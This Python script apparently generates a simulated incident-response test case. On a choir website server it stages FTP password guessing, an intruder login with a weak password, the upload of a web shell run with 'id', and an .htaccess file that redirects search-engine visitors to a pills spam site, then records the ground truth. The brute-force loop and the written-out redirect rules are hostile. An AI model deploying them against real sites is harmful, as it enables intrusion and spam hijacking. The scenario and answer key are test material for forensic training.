"""A weak FTP password is guessed; the site is sent to strangers by its .htaccess."""

from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import server
import services
import site_code
import traffic
from client import CHROME, Browser, ftp
from machine import Bases, Truth

INTRUDER = "203.0.113.99"
ROOT = "/home/choir/www"
SECRET = "choir1"
RULES = """RewriteEngine On
RewriteCond %{HTTP_REFERER} (google|bing) [NC]
RewriteRule ^ http://pills.example.net/ [R=302,L]
"""


def make(out: Path, bases: Bases) -> None:
    """Apache and Pure-FTPd, traditional stamps in the time of Berlin."""
    machine = server.other("choir", bases.pureftpd, out)
    machine.run("ln", "-sf", "/usr/share/zoneinfo/Europe/Berlin", "/etc/localtime")
    machine.write("/etc/timezone", "Europe/Berlin\n")
    machine.user("choir", SECRET)
    machine.run("chmod", "755", "/home/choir")
    site_code.plain_site(machine, ROOT, "choir")
    services.apache_site(machine, server.SITE, ROOT, "/var/log/apache2/access.log", "combined")
    server.start(machine, traditional=True)
    services.pureftpd(machine)
    traffic.visitors(machine, server.SITE, site_code.PAGES)
    traffic.scanners(machine, server.SITE)
    page = site_code.page("Concerts").encode()
    for day in (1, 3, 7):
        machine.at(
            machine.on(day, 17, 2),
            lambda: ftp("198.51.100.81", "choir", SECRET, {"www/about.php": page}),
        )

    def guess() -> None:
        with ThreadPoolExecutor(5) as pool:
            for word in ("123456", "password", "choir", "admin", "qwerty"):
                for name in ("choir", "ftp", "admin"):
                    pool.submit(ftp, INTRUDER, name, word, {})

    machine.at(machine.on(6, 1, 30), guess)
    entered = machine.on(6, 1, 33, 27)
    shell = site_code.SHELL.encode()
    new = {"www/.htaccess": RULES.encode(), "www/conf_old.php": shell}
    machine.at(entered, lambda: ftp(INTRUDER, "choir", SECRET, new))
    guest = Browser(INTRUDER, server.SITE, CHROME)
    machine.at(machine.on(6, 1, 34, 1), lambda: guest.ask("/conf_old.php"))
    machine.at(machine.on(6, 1, 36), lambda: guest.post("/conf_old.php", c="id"))
    machine.live()
    log = "/var/log/syslog"
    machine.end(
        Truth(
            "ftp-login",
            entered.isoformat(),
            INTRUDER,
            log,
            machine.line(log, INTRUDER, "choir is now logged in"),
            accounts=["choir"],
            sites=[ROOT],
            services=["pure-ftpd", "apache2"],
            untouched=["sshd", "cron"],
            notes=".htaccess sends on who comes from a search; conf_old.php",
        )
    )
